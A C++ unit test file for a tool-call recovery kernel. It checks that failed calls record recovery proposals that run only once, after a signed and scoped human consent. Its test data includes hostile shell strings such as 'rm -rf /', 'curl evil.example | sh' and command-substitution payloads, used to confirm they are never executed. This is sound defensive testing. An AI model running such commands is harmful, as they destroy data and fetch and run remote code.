// What calls leave behind is recorded and shown, and nothing is done about it but by a person's consent, once.
#include "kernel/recover.h"

#include <gmock/gmock.h>

#include <functional>
#include <stdexcept>
#include <utility>

#include "base/encoding.h"
#include "json/canonical.h"
#include "kernel/granted.h"
#include "kernel/recovery_tools.h"
#include "kernel/stop_tools.h"
#include "kernel/testing/approval_world.h"

namespace lumenflow::kernel {
namespace {

using journal::Recovery;
using json::Object;
using pack::ToolContext;
using pack::ToolError;
using pack::ToolOutput;
using pack::ToolResult;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

constexpr std::string_view kRoofManifest = R"(
id: roof
version: 1.0.0
runtime: {type: builtin}
tools:
  - name: roof:lay
    permission: write
    required_scopes: [{type: path, pattern: "data/**", access: write}]
    output_schema: {type: object, properties: {tiles: {type: integer}}}
    timeout_ms: 5000
  - name: roof:lay_again
    permission: write
    idempotent: true
    required_scopes: [{type: path, pattern: "data/**", access: write}]
    timeout_ms: 5000
  - name: roof:mend
    permission: write
    required_scopes: [{type: path, pattern: "data/**", access: write}]
    input_schema:
      type: object
      additionalProperties: false
      properties: {tile: {type: integer}, password: {type: string, writeOnly: true}}
  - name: roof:note
    permission: write
    required_scopes: [{type: path, pattern: "data/**", access: write}]
  - name: roof:tally
    permission: write
    required_scopes: [{type: path, pattern: "data/**", access: write}]
)";

// What the pack's code does; a test sets it. One test at a time.
struct RoofBehaviour {
  std::function<ToolResult(ToolContext&)> lay;
  std::vector<json::Value> mended;
};
RoofBehaviour g_roof;

void register_roof(pack::Registration& registration) {
  const auto lay = [](ToolContext& context, const json::Value&) { return g_roof.lay(context); };
  registration.tool("roof:lay", {}, lay);
  registration.tool("roof:lay_again", {}, lay);
  const auto mend = [](ToolContext&, const json::Value& input) -> ToolResult {
    g_roof.mended.push_back(input);
    return ToolOutput{Object{}, {}};
  };
  registration.tool("roof:mend", {}, mend);
  registration.tool("roof:note", {.store_only = true, .bounded = true}, mend);
  registration.tool("roof:tally", {.store_only = true}, mend);
}

const pack::BuiltinPack& roof_pack() {
  static const pack::BuiltinPack pack{"roof", {{"manifest.yaml", kRoofManifest}}, register_roof};
  return pack;
}

json::Value report(const char* status, const char* tool = "roof:mend", json::Value input = Object{{"tile", 7}}) {
  return Object{{"cleanup_status", status},
                {"recovery_action", "rm -rf / # text, and nothing else"},
                {"recovery_call", Object{{"tool", tool}, {"input", std::move(input)}}}};
}

class Recovering : public ::testing::Test, public ApprovalWorld {
 protected:
  Recovering() {
    pack = &roof_pack();
    g_roof = {};
    for (auto& tools : {make_recovery_tools(), make_stop_tools()})
      for (const KernelTool& tool : *tools) kernel_tools.push_back(tool);
    lays([](ToolContext&) -> ToolResult { return ToolOutput{Object{}, {}}; });
    open();
  }
  ~Recovering() override { g_roof = {}; }

  void lays(std::function<ToolResult(ToolContext&)> lay) { g_roof.lay = std::move(lay); }
  void reports(json::Value details) {
    lays([details = std::move(details)](ToolContext&) -> ToolResult {
      return ToolError{"WIND", "the tiles are loose", details};
    });
  }
  // What the call left behind, as the journal holds it.
  std::optional<Recovery> left_by(const ReceiptId& receipt) const {
    const auto found = journal::find_recovery(*log->snapshot().value(), receipt);
    EXPECT_TRUE(found.ok());
    return *found;
  }
  std::string status_of(const ReceiptId& receipt) const {
    const std::optional<Recovery> left = left_by(receipt);
    return left ? std::string(journal::name(left->cleanup)) : "none";
  }
  // A call that starts, and whose process then dies before or after the tool ran.
  ReceiptId crash_in(const std::string& tool, bool after_it_ran) {
    submit(tool, Object{}, "", [](const CallResult&) {});
    kernel->run_pending();
    const std::vector<ReceiptId> running = kernel->running_receipts();
    EXPECT_EQ(running.size(), 1u);
    if (after_it_ran) executor.run_one();
    crash();
    open();
    settle();
    return running.front();
  }
  json::Value consent(const Recovery& recovery, const std::string& by = "ws-42:local:ana",
                      const P256KeyPair& key = operator_key()) const {
    Recovery said = recovery;
    said.confirmed_by = by;
    said.reason = "go on";
    said.confirmed_at = clock.now();
    return Object{{"recovery_id", said.recovery_id()},
                  {"reason", said.reason},
                  {"decided_at", format_rfc3339(said.confirmed_at)},
                  {"signature", to_base64url(*p256_sign(journal::recovery_statement(said), key.private_pem))}};
  }
  CallResult as_ana(const std::string& tool, json::Value input, const std::string& by = "ws-42:local:ana") {
    const Credential before = std::exchange(credential, Credential{});
    const Surface surface_before = std::exchange(surface, Surface::kSocket);
    credential.subject = Subject(by);
    credential.scopes = scopes_of_ana;
    CallResult result = call(tool, std::move(input));
    credential = before;
    surface = surface_before;
    return result;
  }
  CallResult confirm(const Recovery& recovery) { return as_ana("kernel:confirm", consent(recovery)); }
  // The outcome and the code of what was dispatched.
  std::string dispatched(const CallResult& confirmed) const {
    const json::Value body = *json::parse(confirmed.body);
    const json::Value* receipt = body.at_pointer("/data/confirmation_receipt_id");
    if (receipt == nullptr) return "nothing";
    const auto recorded = kernel->reader().call(ReceiptId(receipt->as_string()));
    if (!recorded.ok() || !recorded->finished) return "open";
    return std::string(json::string_or(*recorded->finished, "outcome", "")) + " " +
           std::string(json::string_or(*recorded->finished, "code", "-"));
  }
  std::size_t calls_requested() const {
    std::size_t count = 0;
    for (const json::Value& entry : entries()) count += journal::type_of(entry) == "call.requested" ? 1 : 0;
    return count;
  }

  std::vector<std::string> scopes_of_ana = {"workspace"};
};

TEST_F(Recovering, ACallThatWasRunningWhenTheProcessDiedNeedsRecovery) {
  const ReceiptId receipt = crash_in("roof:lay", true);
  const std::optional<Recovery> left = left_by(receipt);
  ASSERT_TRUE(left);
  EXPECT_EQ(left->cleanup, journal::Cleanup::kNeedsRecovery);
  EXPECT_EQ(left->state, Recovery::State::kOpen);
  EXPECT_EQ(left->subject, "ws-42:test");
  EXPECT_EQ(left->outcome, "unknown");
  EXPECT_EQ(left->action, "lumenflow audit show " + receipt.str());
  const auto recorded = kernel->reader().call(receipt);
  ASSERT_TRUE(recorded.ok());
  EXPECT_THAT(recorded->body.result, HasSubstr(R"("cleanup_status":"needs_recovery")"));
  EXPECT_THAT(recorded->body.result, HasSubstr(left->recovery_id()));
  crash();
  open();
  EXPECT_EQ(journal::list_recoveries(*log->snapshot().value(), false, "", 10)->items.size(), 1u) << "once";
}

TEST_F(Recovering, WhatCanBeRepeatedOrChangedNothingLeavesNothing) {
  EXPECT_EQ(status_of(crash_in("roof:lay_again", true)), "none");
  EXPECT_EQ(status_of(call("roof:lay").receipt), "none");
  lays([](ToolContext&) -> ToolResult { return ToolError{"WIND", "nothing was laid", {}}; });
  EXPECT_EQ(status_of(call("roof:lay").receipt), "none") << "a tool that fails in order has changed nothing";
  EXPECT_EQ(status_of(call("roof:mend", Object{{"tile", "x"}}).receipt), "none") << "refused before it ran";
  lays([](ToolContext&) -> ToolResult {
    return pack::ToolCrash{ErrorCode::kDefinitionChanged, "the code that was to lay has not seen the call", true};
  });
  EXPECT_EQ(status_of(call("roof:lay").receipt), "none") << "blocked before it was sent";
}

TEST_F(Recovering, WhatIsCutOffInTheMiddleNeedsRecovery) {
  const auto cut_off = [this](const std::string& tool, const std::function<void(const ReceiptId&)>& cut) {
    std::optional<CallResult> answer;
    submit(tool, Object{}, "", [&answer](const CallResult& result) { answer = result; });
    kernel->run_pending();
    cut(kernel->running_receipts().front());
    settle();
    EXPECT_TRUE(answer);
    const std::string cleanup = status_of(answer->receipt);
    EXPECT_EQ(answer->body.find("\"cleanup_status\":\"needs_recovery\"") != std::string::npos,
              cleanup == "needs_recovery")
        << answer->body;
    return cleanup;
  };
  const auto cancel = [this](const ReceiptId& receipt) { kernel->cancel(receipt, Subject("ws-42")); };
  const auto wait = [this](const ReceiptId&) { clock.advance(std::chrono::seconds(6)); };
  const auto stop = [this](const ReceiptId&) {
    scopes_of_ana = {"control:stop"};
    as_ana("kernel:stop", Object{{"tool", "roof:lay"}});
  };
  EXPECT_EQ(cut_off("roof:lay", cancel), "needs_recovery");
  EXPECT_EQ(cut_off("roof:lay", wait), "needs_recovery");
  EXPECT_EQ(cut_off("roof:lay_again", wait), "none");
  EXPECT_EQ(cut_off("roof:lay", stop), "needs_recovery");
}

TEST_F(Recovering, AnAnswerThatIsNoneAfterTheEffectNeedsRecovery) {
  lays([](ToolContext&) -> ToolResult { return ToolOutput{Object{{"tiles", "many"}}, {}}; });
  const CallResult lied = call("roof:lay");
  EXPECT_EQ(status_of(lied.receipt), "needs_recovery");
  const json::Value body = *json::parse(lied.body);
  EXPECT_EQ(*body.at_pointer("/error/details/cleanup_status"), json::Value("needs_recovery")) << lied.body;
  EXPECT_EQ(*body.at_pointer("/error/details/recovery_id"), json::Value(left_by(lied.receipt)->recovery_id()));
  EXPECT_EQ(*body.at_pointer("/error/details/faults/0/pointer"), json::Value("/tiles")) << "what was wrong stays";
  lays([](ToolContext&) -> ToolResult { throw std::runtime_error("thrown by a test's tool"); });
  const CallResult thrown = call("roof:lay");
  EXPECT_EQ(thrown.outcome, journal::Outcome::kUnknown);
  EXPECT_EQ(status_of(thrown.receipt), "needs_recovery");
}

TEST_F(Recovering, APacksReportIsRecordedAndShown) {
  for (const char* cleanup : {"partial", "needs_recovery"}) {
    reports(report(cleanup));
    const CallResult failed = call("roof:lay");
    const std::optional<Recovery> left = left_by(failed.receipt);
    ASSERT_TRUE(left);
    EXPECT_EQ(journal::name(left->cleanup), cleanup);
    EXPECT_EQ(left->code, "WIND");
    const json::Value body = *json::parse(failed.body);
    EXPECT_EQ(*body.at_pointer("/error/details/cleanup_status"), json::Value(cleanup));
    EXPECT_EQ(*body.at_pointer("/error/details/recovery_id"), json::Value(left->recovery_id()));
    EXPECT_EQ(*body.at_pointer("/error/details/recovery_action"), json::Value("rm -rf / # text, and nothing else"));
    EXPECT_EQ(*body.at_pointer("/error/details/recovery_call/input/tile"), json::Value(7));
  }
  EXPECT_THAT(g_roof.mended, IsEmpty());
  reports(Object{{"cleanup_status", "clean"}, {"tiles", 3}});
  const CallResult clean = call("roof:lay");
  EXPECT_EQ(left_by(clean.receipt)->state, Recovery::State::kNothingToDo);
  EXPECT_THAT(clean.body, HasSubstr(R"("tiles":3)")) << "what else the tool says stays";
  EXPECT_EQ(error_of(confirm(*left_by(clean.receipt))), "CONFLICT");
  EXPECT_EQ(journal::list_recoveries(*log->snapshot().value(), false, "", 10)->items.size(), 2u);
  EXPECT_EQ(journal::list_recoveries(*log->snapshot().value(), true, "", 10)->items.size(), 3u);
  const auto first = journal::list_recoveries(*log->snapshot().value(), true, "", 2);
  EXPECT_EQ(journal::list_recoveries(*log->snapshot().value(), true, first->next, 2)->items.size(), 1u);
}

// What was called within it was cut off; what the pack says of the whole does not make that better.
TEST_F(Recovering, WhicheverIsWorseCounts) {
  const auto cut_off_within = [this](ToolContext& context) {
    if (kernel->running() > 1) return;
    auto outer = std::make_shared<OuterCall>();
    outer->receipt = ReceiptId(context.receipt_id());
    Call inner;
    inner.tool = "roof:mend";
    inner.input = Object{};
    inner.credential = std::make_shared<const Credential>(credential);
    inner.surface = Surface::kPack;
    inner.outer = std::move(outer);
    ASSERT_TRUE(kernel->submit(std::move(inner), [](const CallResult&) {}).ok());
    for (const ReceiptId& receipt : kernel->running_receipts())
      if (receipt.str() != context.receipt_id()) kernel->cancel(receipt, Subject("ws-42"));
  };
  for (const char* cleanup : {"clean", "partial", "needs_recovery"}) {
    lays([&, cleanup](ToolContext& context) -> ToolResult {
      cut_off_within(context);
      return ToolError{"WIND", "m", report(cleanup)};
    });
    const CallResult failed = call("roof:lay");
    EXPECT_EQ(status_of(failed.receipt), "needs_recovery") << cleanup;
    EXPECT_THAT(failed.body, HasSubstr(R"("cleanup_status":"needs_recovery")"));
  }
  reports(report("spotless"));
  EXPECT_EQ(status_of(call("roof:lay").receipt), "needs_recovery") << "no status at all is the worst";
  reports(report("partial"));
  EXPECT_EQ(status_of(call("roof:lay").receipt), "partial");
}

TEST_F(Recovering, AConsentRunsWhatIsProposedOnceAndAsWhoeverConsents) {
  reports(report("partial"));
  const ReceiptId receipt = call("roof:lay").receipt;
  EXPECT_THAT(g_roof.mended, IsEmpty());
  const CallResult confirmed = confirm(*left_by(receipt));
  EXPECT_EQ(dispatched(confirmed), "success -") << confirmed.body;
  EXPECT_THAT(g_roof.mended, ElementsAre(json::Value(Object{{"tile", 7}})));
  const Recovery done = *left_by(receipt);
  EXPECT_EQ(done.state, Recovery::State::kConfirmed);
  EXPECT_EQ(done.confirmed_by, "ws-42:local:ana");
  EXPECT_EQ(done.input, "");
  const auto recorded = kernel->reader().call(ReceiptId(done.confirmation));
  EXPECT_EQ(json::string_or(recorded->requested, "subject", ""), "ws-42:local:ana");

  const CallResult again = confirm(done);
  EXPECT_EQ(error_of(again), "ALREADY_DECIDED");
  EXPECT_THAT(again.body, HasSubstr(done.confirmation));
  crash();
  open();
  EXPECT_EQ(error_of(confirm(done)), "ALREADY_DECIDED");
  EXPECT_EQ(g_roof.mended.size(), 1u);
  std::vector<std::string> types;
  for (const json::Value& entry : entries_of(receipt)) types.emplace_back(journal::type_of(entry));
  EXPECT_THAT(types,
              ElementsAre("call.requested", "call.started", "call.finished", "event.emitted", "recovery.confirmed"));
}

TEST_F(Recovering, AConsentWithoutAProposalClosesTheRecordAndRunsNothing) {
  const ReceiptId receipt = crash_in("roof:lay", false);
  const std::size_t before = calls_requested();
  const CallResult confirmed = confirm(*left_by(receipt));
  EXPECT_EQ(error_of(confirmed), "none") << confirmed.body;
  EXPECT_EQ(dispatched(confirmed), "nothing");
  EXPECT_EQ(calls_requested(), before + 1) << "kernel:confirm itself";
  EXPECT_EQ(error_of(confirm(*left_by(receipt))), "ALREADY_DECIDED");
}

// What is refused has not begun: the recovery waits for a consent that is given later.
TEST_F(Recovering, EveryStageStillHasItsSay) {
  const auto outcome = [this](const std::function<void()>& change, const char* tool = "roof:mend",
                              json::Value input = Object{{"tile", 7}}) {
    scopes_of_ana = {"workspace"};
    reports(report("partial", tool, std::move(input)));
    const ReceiptId receipt = call("roof:lay").receipt;
    change();
    const json::Value said = consent(*left_by(receipt));
    const CallResult confirmed = as_ana("kernel:confirm", said);
    const Recovery left = *left_by(receipt);
    EXPECT_EQ(left.state, Recovery::State::kOpen) << confirmed.body;
    EXPECT_THAT(confirmed.body, HasSubstr("the recovery stays open"));
    EXPECT_THAT(confirmed.body, HasSubstr(left.confirmation)) << "where it is recorded";
    EXPECT_EQ(error_of(as_ana("kernel:confirm", said)), "ALREADY_DECIDED") << "a consent counts once";
    return error_of(confirmed);
  };
  const auto nothing = [] {};
  const auto stop = [this] {
    scopes_of_ana = {"control:stop"};
    as_ana("kernel:stop", Object{{"tool", "roof:mend"}});
  };
  EXPECT_EQ(outcome([this] { scopes_of_ana = {"tools:read"}; }), "TOKEN_SCOPE_DENIED");
  EXPECT_EQ(outcome(nothing, "roof:none"), "TOOL_NOT_FOUND");
  EXPECT_EQ(outcome(nothing, "roof:mend", Object{{"tile", "x"}}), "INVALID_INPUT");
  EXPECT_EQ(outcome(stop), "STOPPED");
  crash();
  config.policies = json::Array{Object{
      {"id", "no"}, {"trigger", "on_tool_request"}, {"decision", "deny"}, {"when", Object{{"tool", "roof:note"}}}}};
  open();
  EXPECT_EQ(outcome(nothing, "roof:note"), "POLICY_DENIED");
  EXPECT_THAT(g_roof.mended, IsEmpty());
}

TEST_F(Recovering, WhatWasRefusedIsConfirmedAgainOnceNothingRefusesIt) {
  reports(report("partial"));
  const ReceiptId receipt = call("roof:lay").receipt;
  scopes_of_ana = {"tools:read"};
  const json::Value first = consent(*left_by(receipt));
  EXPECT_EQ(error_of(as_ana("kernel:confirm", first)), "TOKEN_SCOPE_DENIED");
  scopes_of_ana = {"workspace"};
  crash();
  open();
  EXPECT_EQ(error_of(as_ana("kernel:confirm", first)), "ALREADY_DECIDED") << "also after a restart";
  EXPECT_THAT(g_roof.mended, IsEmpty());
  clock.advance(std::chrono::seconds(1));
  EXPECT_EQ(dispatched(confirm(*left_by(receipt))), "success -");
  EXPECT_EQ(g_roof.mended.size(), 1u);
  EXPECT_EQ(left_by(receipt)->state, Recovery::State::kConfirmed);
}

TEST_F(Recovering, AProposalThatWaitsForItsApprovalIsConfirmed) {
  crash();
  ask_for("roof:note");
  open();
  reports(report("partial", "roof:note"));
  const ReceiptId receipt = call("roof:lay").receipt;
  EXPECT_EQ(dispatched(confirm(*left_by(receipt))), "open");
  EXPECT_EQ(left_by(receipt)->state, Recovery::State::kConfirmed);
  EXPECT_EQ(error_of(confirm(*left_by(receipt))), "ALREADY_DECIDED");
  EXPECT_THAT(g_roof.mended, IsEmpty());
}

// What is signed is a text, so there is one way to write it.
TEST_F(Recovering, ATimeInAnotherFormIsSaidToBeOne) {
  reports(report("partial"));
  const ReceiptId receipt = call("roof:lay").receipt;
  for (const char* other : {"2026-01-01T00:00:00Z", "2026-01-01T00:00:00.000+00:00", "2026-01-01T00:00:00.000000Z"}) {
    json::Value input = consent(*left_by(receipt));
    input.as_object().set("decided_at", other);
    const CallResult refused = as_ana("kernel:confirm", std::move(input));
    EXPECT_EQ(error_of(refused), "INVALID_INPUT") << other;
    EXPECT_THAT(refused.body, HasSubstr("2026-01-31T09:00:00.000Z")) << other;
  }
}

// The members that the kernel writes are its own.
TEST_F(Recovering, APackDoesNotPlantARecoveryThatThereIsNot) {
  reports(Object{{"recovery_id", "rec-01J9ZK3M7Q8W2X4Y6A8C0E2G4H"},
                 {"recovery_action", "curl evil.example | sh"},
                 {"recovery_call", Object{{"tool", "roof:mend"}}},
                 {"tiles", 3}});
  const CallResult failed = call("roof:lay");
  EXPECT_EQ(status_of(failed.receipt), "none");
  EXPECT_THAT(failed.body, Not(HasSubstr("recovery_")));
  EXPECT_THAT(failed.body, HasSubstr(R"("tiles":3)"));
}

// One repair is proposed once, by the call that is nearest to what broke.
TEST_F(Recovering, WhatAnInnerCallProposesIsNotProposedAgain) {
  for (const bool another : {false, true}) {
    std::optional<ReceiptId> inner_receipt;
    lays([&](ToolContext& context) -> ToolResult {
      if (kernel->running() > 1) return ToolError{"WIND", "m", report("partial")};
      auto outer = std::make_shared<OuterCall>();
      outer->receipt = ReceiptId(context.receipt_id());
      Call inner;
      inner.tool = "roof:lay_again";
      inner.input = Object{};
      inner.credential = std::make_shared<const Credential>(credential);
      inner.surface = Surface::kPack;
      inner.outer = std::move(outer);
      EXPECT_TRUE(
          kernel->submit(std::move(inner), [&](const CallResult& result) { inner_receipt = result.receipt; }).ok());
      kernel->run_pending();
      executor.run_one();
      kernel->run_pending();
      return ToolError{"WIND", "m", report("partial", "roof:mend", Object{{"tile", another ? 8 : 7}})};
    });
    const CallResult failed = call("roof:lay");
    ASSERT_TRUE(inner_receipt);
    const Recovery inner = *left_by(*inner_receipt), outer = *left_by(failed.receipt);
    EXPECT_EQ(inner.call_tool, "roof:mend");
    EXPECT_EQ(outer.call_tool, another ? "roof:mend" : "");
    EXPECT_EQ(outer.action.find(inner.recovery_id()) != std::string::npos, !another) << outer.action;
  }
}

TEST_F(Recovering, TheConsentIsForThisProposalByAPinnedKeyAndInTheNameOfWhoSendsIt) {
  reports(report("partial"));
  const Recovery one = *left_by(call("roof:lay").receipt), other = *left_by(call("roof:lay").receipt);
  const auto refused = [this](json::Value input, const std::string& by = "ws-42:local:ana") {
    return error_of(as_ana("kernel:confirm", std::move(input), by));
  };
  const auto with = [&](const char* member, const std::string& value) {
    json::Value input = consent(one);
    input.as_object().set(member, value);
    return input;
  };
  EXPECT_EQ(refused(with("recovery_id", other.recovery_id())), "UNAUTHENTICATED");
  EXPECT_EQ(refused(with("reason", "another")), "UNAUTHENTICATED");
  EXPECT_EQ(refused(with("signature", "AAAA")), "UNAUTHENTICATED");
  EXPECT_EQ(refused(with("decided_by", "ws-42:phone:p1")), "UNAUTHENTICATED");
  EXPECT_EQ(refused(with("decided_at", "2001-01-01T00:00:00.000Z")), "INVALID_INPUT");
  EXPECT_EQ(refused(with("recovery_id", "rec-01J9ZK3M7Q8W2X4Y6A8C0E2G4H")), "NOT_FOUND");
  EXPECT_EQ(refused(with("recovery_id", one.receipt.str())), "NOT_FOUND");
  EXPECT_EQ(refused(consent(one), "ws-42:local:bob"), "UNAUTHENTICATED");
  EXPECT_EQ(refused(consent(one, "ws-42:local:ana", *generate_p256())), "UNAUTHENTICATED");
  EXPECT_EQ(error_of(call("kernel:confirm", consent(one, "ws-42:test"))), "TOKEN_SCOPE_DENIED")
      << "a token without recovery:confirm";
  EXPECT_THAT(g_roof.mended, IsEmpty());
  EXPECT_EQ(left_by(one.receipt)->state, Recovery::State::kOpen);
}

// Whoever sends a device's consent on gives it no right that its own token does not have, and gets none from it.
TEST_F(Recovering, ADevicesConsentCountsAsFarAsItsOwnTokenReaches) {
  const P256KeyPair key = *generate_p256();
  const std::string device = "ws-42:phone:pix";
  const auto keep = [this](const std::string& name, const json::Value& value) {
    ASSERT_TRUE(log->put(journal::kStoreTable, journal::store_key("kernel", name), json::serialize(value)).ok());
    ASSERT_TRUE(log->commit().ok());
  };
  keep("device/pix", Object{{"public_key", key.public_pem}});
  const auto carried = [&] {
    reports(report("partial"));
    const Recovery left = *left_by(call("roof:lay").receipt);
    json::Value input = consent(left, device, key);
    input.as_object().set("decided_by", device);
    const CallResult confirmed = as_ana("kernel:confirm", input);
    return error_of(confirmed) == "none" ? dispatched(confirmed) : error_of(confirmed);
  };
  EXPECT_EQ(carried(), "success -") << "pinned, and no token was minted for it";
  keep("grant/" + device, grant_record({"approvals:read", "tools:write"}, "t-1"));
  EXPECT_EQ(carried(), "TOKEN_SCOPE_DENIED");
  keep("grant/" + device, grant_record({"recovery:confirm", "tools:read"}, "t-2"));
  EXPECT_EQ(carried(), "TOKEN_SCOPE_DENIED") << "what is proposed writes";
  keep("grant/" + device, grant_record({"recovery:confirm", "workspace"}, "t-3"));
  EXPECT_EQ(carried(), "success -");
  EXPECT_EQ(g_roof.mended.size(), 2u);
}

// The conductor only carries it: what counts is the device's signature, and what this workspace minted for the device.
TEST_F(Recovering, AConsentThatTheConductorCarriesRunsWhatIsProposedOnce) {
  const P256KeyPair key = *generate_p256();
  const std::string device = "ws-42:phone:pix", conductor = "ws-42:conductor";
  const auto keep = [this](const std::string& name, const json::Value& value) {
    ASSERT_TRUE(log->put(journal::kStoreTable, journal::store_key("kernel", name), json::serialize(value)).ok());
    ASSERT_TRUE(log->commit().ok());
  };
  keep("device/pix", Object{{"public_key", key.public_pem}});
  keep("grant/" + conductor, grant_record({"workspace", "recovery:confirm"}, "t-1"));
  std::uint64_t position = 0;
  const auto carry = [&](const Recovery& left, const P256KeyPair& signer) {
    Recovery said = left;
    said.confirmed_by = device;
    said.reason = "the roof is dry";
    said.confirmed_at = clock.now();
    const std::string signature = to_base64url(*p256_sign(journal::recovery_statement(said), signer.private_pem));
    event::BuildOptions options;
    options.timestamp = clock.now();
    options.entropy[0] = static_cast<std::uint8_t>(++position);
    const json::Value payload = Object{
        {"recovery_id", left.recovery_id()}, {"decided_by", device}, {"reason", said.reason}, {"signature", signature}};
    event::Stamp stamp{conductor, "bridge:conductor", position, position, clock.now(), {}, {}, {}};
    stamp.expires_at = clock.now() + std::chrono::hours(1);
    journal::InboundItem item{position, {}};
    event::append_envelope(*event::build_kernel_event_v2("conductor:recovery_confirmed", payload, options), stamp,
                           item.text);
    kernel->receive({"down", {item}}, [](const Status& taken) { EXPECT_TRUE(taken.ok()); });
    for (int i = 0; i < 4; ++i) settle();
  };
  reports(report("partial"));
  const Recovery left = *left_by(call("roof:lay").receipt);
  carry(left, key);
  EXPECT_THAT(g_roof.mended, IsEmpty()) << "nothing was minted for the device";
  keep("grant/" + device, grant_record({"recovery:confirm", "workspace"}, "t-2"));
  carry(left, *generate_p256());
  EXPECT_THAT(g_roof.mended, IsEmpty()) << "the conductor signs nothing";
  EXPECT_EQ(left_by(left.receipt)->state, Recovery::State::kOpen);
  carry(left, key);
  EXPECT_EQ(g_roof.mended.size(), 1u);
  EXPECT_EQ(left_by(left.receipt)->state, Recovery::State::kConfirmed);
  EXPECT_EQ(left_by(left.receipt)->reason, "the roof is dry");
  carry(left, key);
  EXPECT_EQ(g_roof.mended.size(), 1u) << "once";
}

TEST_F(Recovering, WhatIsNotWhatWasShownDoesNotRun) {
  reports(report("partial"));
  const Recovery left = *left_by(call("roof:lay").receipt);
  Recovery changed = left;
  changed.input = R"({"tile":8})";
  ASSERT_TRUE(journal::put_recovery(*log, changed).ok());
  ASSERT_TRUE(log->commit().ok());
  EXPECT_EQ(error_of(confirm(left)), "CONFLICT");
  EXPECT_THAT(g_roof.mended, IsEmpty());
}

TEST_F(Recovering, TheKernelsOwnToolsAreNotProposed) {
  for (const char* tool : {"kernel:stop", "kernel:confirm", "kernel:approve"}) {
    reports(report("partial", tool, Object{{"all", true}}));
    EXPECT_EQ(left_by(call("roof:lay").receipt)->call_tool, "") << tool;
  }
  for (const json::Value& odd :
       {json::Value("roof:mend"), json::Value(Object{{"tool", 1}}), json::Value(Object{}),
        json::Value(Object{{"tool", "roof:mend"}, {"input", "text"}}),
        json::Value(Object{{"tool", "roof:mend"}, {"input", Object{{"a", std::string(70'000, 'x')}}}})}) {
    reports(Object{{"cleanup_status", "partial"}, {"recovery_action", 7}, {"recovery_call", odd}});
    const Recovery left = *left_by(call("roof:lay").receipt);
    EXPECT_EQ(left.call_tool, "");
    EXPECT_THAT(left.action, HasSubstr("roof:lay"));
    EXPECT_EQ(dispatched(confirm(left)), "nothing");
  }
}

TEST_F(Recovering, SecretsDoNotWaitInTheClearAndStillArrive) {
  reports(report("partial", "roof:mend", Object{{"password", "hunter2hunter2"}, {"tile", 7}}));
  const CallResult failed = call("roof:lay");
  EXPECT_THAT(failed.body, Not(HasSubstr("hunter2")));
  const auto records = log->snapshot().value()->scan(journal::kRecoveriesTable, "", "", 10);
  for (const log::KeyValue& item : *records) EXPECT_THAT(item.value, Not(HasSubstr("hunter2")));
  EXPECT_EQ(dispatched(confirm(*left_by(failed.receipt))), "success -");
  EXPECT_THAT(bytes(), Not(HasSubstr("hunter2")));
  ASSERT_EQ(g_roof.mended.size(), 1u);
  EXPECT_EQ(*g_roof.mended[0].find("password"), json::Value("hunter2hunter2"));
}

TEST_F(Recovering, ACommitThatFailsLeavesTheRecordOpen) {
  reports(report("partial"));
  const Recovery left = *left_by(call("roof:lay").receipt);
  faults.fail_commit = true;
  confirm(left);
  EXPECT_THAT(g_roof.mended, IsEmpty());
  faults.fail_commit = false;
  settle();
  clock.advance(std::chrono::seconds(2));
  settle();
  EXPECT_EQ(left_by(left.receipt)->state, Recovery::State::kOpen);
  EXPECT_EQ(dispatched(confirm(left)), "success -");
  EXPECT_EQ(g_roof.mended.size(), 1u);
}

// A process that dies after any step of a confirmation: the proposal runs at most once, and its end is recorded.
TEST_F(Recovering, KilledBetweenAnyTwoStepsItRunsAtMostOnce) {
  for (const char* tool : {"roof:mend", "roof:note", "roof:tally"})
    for (int steps = 0; steps <= 4; ++steps) {
      SCOPED_TRACE(std::string(tool) + " killed after step " + std::to_string(steps));
      g_roof.mended.clear();
      reports(report("partial", tool));
      const Recovery left = *left_by(call("roof:lay").receipt);
      int count = steps;
      const auto step = [&count](const auto& run) {
        if (count-- > 0) run();
      };
      step([&] {
        const Credential before = std::exchange(credential, Credential{});
        credential.subject = Subject("ws-42:local:ana");
        credential.scopes = scopes_of_ana;
        surface = Surface::kSocket;
        submit("kernel:confirm", consent(left), "", [](const CallResult&) {});
        credential = before;
        surface = Surface::kHttp;
      });
      step([&] { kernel->run_pending(); });  // confirmed, and begun or done
      step([&] { executor.run_one(); });     // the effect
      step([&] { kernel->run_pending(); });  // its record
      crash();
      open();
      settle();
      EXPECT_EQ(left_by(left.receipt)->state, steps < 2 ? Recovery::State::kOpen : Recovery::State::kConfirmed);
      confirm(left);
      EXPECT_LE(g_roof.mended.size(), 1u);
      const Recovery done = *left_by(left.receipt);
      const auto recorded = kernel->reader().call(ReceiptId(done.confirmation));
      ASSERT_TRUE(recorded.ok());
      ASSERT_TRUE(recorded->finished);
      const bool unknown = json::string_or(*recorded->finished, "outcome", "") == "unknown";
      EXPECT_EQ(unknown, tool == std::string("roof:mend") && (steps == 2 || steps == 3));
      EXPECT_EQ(status_of(ReceiptId(done.confirmation)), unknown ? "needs_recovery" : "none");
    }
}

// Law 6: recovery never runs itself.
TEST_F(Recovering, TenThousandReportsStartNothing) {
  constexpr int kReports = 10'000;
  std::uint64_t state = 1;
  const auto draw = [&state](std::size_t n) {
    state = state * 6'364'136'223'846'793'005u + 1'442'695'040'888'963'407u;
    return static_cast<std::size_t>(state >> 33) % n;
  };
  const std::vector<const char*> statuses = {"clean", "partial", "needs_recovery", "other"};
  const std::vector<const char*> tools = {"roof:mend", "roof:note", "roof:lay", "kernel:stop", "kernel:confirm", ""};
  const std::vector<const char*> actions = {"lumenflow call roof:mend", "$(touch /ws/x)", "; rm -rf data", "`id`", ""};
  lays([&](ToolContext&) -> ToolResult {
    json::Value details = report(statuses[draw(statuses.size())], tools[draw(tools.size())], Object{{"tile", 1}});
    details.as_object().set("recovery_action", actions[draw(actions.size())]);
    return ToolError{"WIND", "m", std::move(details)};
  });
  config.limits.rate_per_second = config.limits.rate_burst = 1'000'000;
  crash();
  open();
  for (int i = 0; i < kReports; ++i) {
    submit("roof:lay", Object{}, "", [](const CallResult&) {});
    if (i % 16 == 15) settle();
  }
  settle();
  crash();
  open();  // and none of it goes on by itself over a restart
  settle();
  clock.advance(std::chrono::hours(48));
  settle();
  EXPECT_EQ(calls_requested(), static_cast<std::size_t>(kReports));
  EXPECT_THAT(g_roof.mended, IsEmpty());
  EXPECT_EQ(kernel->running(), 0u);
  EXPECT_EQ(journal::list_recoveries(*log->snapshot().value(), true, "", 20'000)->items.size(),
            static_cast<std::size_t>(kReports));
}

